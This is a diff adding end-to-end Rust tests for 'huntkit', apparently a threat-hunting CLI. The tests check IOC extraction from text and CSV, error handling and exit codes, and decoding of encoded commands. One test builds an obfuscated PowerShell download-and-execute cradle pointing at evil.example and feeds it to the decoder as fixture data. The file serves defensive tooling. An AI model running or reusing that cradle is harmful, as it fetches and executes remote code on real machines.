@@ -1,0 +1,151 @@
+//! The `huntkit` binary end to end: real files, real pipes, exit codes.
+
+use std::io::Write;
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+
+fn huntkit(args: &[&str], stdin: Option<&[u8]>) -> Output {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_huntkit"))
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut pipe = child.stdin.take().unwrap();
+    pipe.write_all(stdin.unwrap_or_default()).unwrap();
+    drop(pipe);
+    child.wait_with_output().unwrap()
+}
+
+fn temp(name: &str, content: &[u8]) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("huntkit-cli-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join(name);
+    std::fs::write(&path, content).unwrap();
+    path
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8(o.stdout.clone()).unwrap()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8(o.stderr.clone()).unwrap()
+}
+
+#[test]
+fn text_ndjson_has_the_documented_keys() {
+    let o = huntkit(
+        &["ioc", "-", "--format", "ndjson"],
+        Some(b"a hxxp://evil[.]com/x 1.2.3.4\nb 1.2.3.4\n"),
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let lines: Vec<&str> = stdout(&o).lines().collect::<Vec<_>>();
+    assert_eq!(
+        lines,
+        [
+            r#"{"IoCType":"url","Observable":"hxxp://evil[.]com/x","Refanged":"http://evil.com/x","Count":1,"FirstOffset":2}"#,
+            r#"{"IoCType":"dns","Observable":"evil[.]com","Refanged":"evil.com","Count":1,"FirstOffset":9}"#,
+            r#"{"IoCType":"ipv4","Observable":"1.2.3.4","Refanged":"1.2.3.4","Count":2,"FirstOffset":22}"#,
+        ]
+    );
+}
+
+#[test]
+fn csv_table_with_columns() {
+    let f = temp("alerts.csv", b"host,cmd\nh1,ping 8.8.8.8\nh2,curl http://a.com/x\n");
+    let o = huntkit(&["ioc", f.to_str().unwrap(), "--columns", "cmd", "--format", "csv"], None);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert_eq!(
+        stdout(&o),
+        "IoCType,Observable,SourceIndex,Input,Refanged\nipv4,8.8.8.8,0,cmd,8.8.8.8\nurl,http://a.com/x,1,cmd,http://a.com/x\ndns,a.com,1,cmd,a.com\n"
+    );
+}
+
+#[test]
+fn missing_column_names_the_column() {
+    let f = temp("missing.csv", b"host,cmd\nh1,x\n");
+    let o = huntkit(&["ioc", f.to_str().unwrap(), "--columns", "CommandLine"], None);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(
+        stderr(&o).contains("column \"CommandLine\" not in table (columns: host, cmd)"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn empty_and_non_utf8_inputs() {
+    let o = huntkit(&["ioc", "-", "--format", "ndjson"], Some(b""));
+    assert!(o.status.success());
+    assert_eq!(stdout(&o), "");
+    let o = huntkit(&["ioc", "-", "--format", "ndjson"], Some(b"\xff\xfe 9.9.9.9 \x80"));
+    assert!(o.status.success());
+    assert!(stdout(&o).contains("9.9.9.9"));
+    let f = temp("empty.csv", b"");
+    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("is empty"), "{}", stderr(&o));
+}
+
+#[test]
+fn truncated_arrow_is_a_clear_error() {
+    let f = temp("bad.arrow", b"\xff\xff\xff\xff\x10\x00\x00\x00trunc");
+    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).starts_with("huntkit: "), "{}", stderr(&o));
+    assert!(stderr(&o).contains("cannot read arrow input"), "{}", stderr(&o));
+}
+
+#[test]
+fn per_line_mode_reports_line_numbers() {
+    let o = huntkit(
+        &["ioc", "-", "--per-line", "--format", "csv"],
+        Some(b"none here\nhost evil.com\n"),
+    );
+    assert!(o.status.success());
+    assert_eq!(
+        stdout(&o),
+        "IoCType,Observable,SourceIndex,Input,Refanged\ndns,evil.com,1,text,evil.com\n"
+    );
+}
+
+#[test]
+fn usage_errors_exit_2() {
+    let o = huntkit(&["ioc", "--format", "xml"], None);
+    assert_eq!(o.status.code(), Some(2));
+    let o = huntkit(&["ioc", "--pattern", "nonsense"], Some(b""));
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("is not NAME=REGEX"));
+}
+
+#[test]
+fn decode_annotates_powershell() {
+    let ps: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
+        .encode_utf16()
+        .flat_map(|u| u.to_le_bytes())
+        .collect();
+    // The core's own decoder is the oracle for the encoding step only.
+    let b64 = encode_b64(&ps);
+    let line = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}\n");
+    let o = huntkit(&["decode", "-", "--annotated"], Some(line.as_bytes()));
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(stdout(&o).contains("DownloadString('http://evil.example/a.ps1')"), "{}", stdout(&o));
+    let o = huntkit(&["decode", "-", "--format", "ndjson"], Some(line.as_bytes()));
+    assert!(stdout(&o).contains("\"encoding_type\":\"utf16le_base64\""), "{}", stdout(&o));
+}
+
+fn encode_b64(bytes: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in bytes.chunks(3) {
+        let n = (c[0] as u32) << 16
+            | (*c.get(1).unwrap_or(&0) as u32) << 8
+            | *c.get(2).unwrap_or(&0) as u32;
+        for i in 0..4 {
+            out.push(if i <= c.len() { A[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
+        }
+    }
+    out
+}
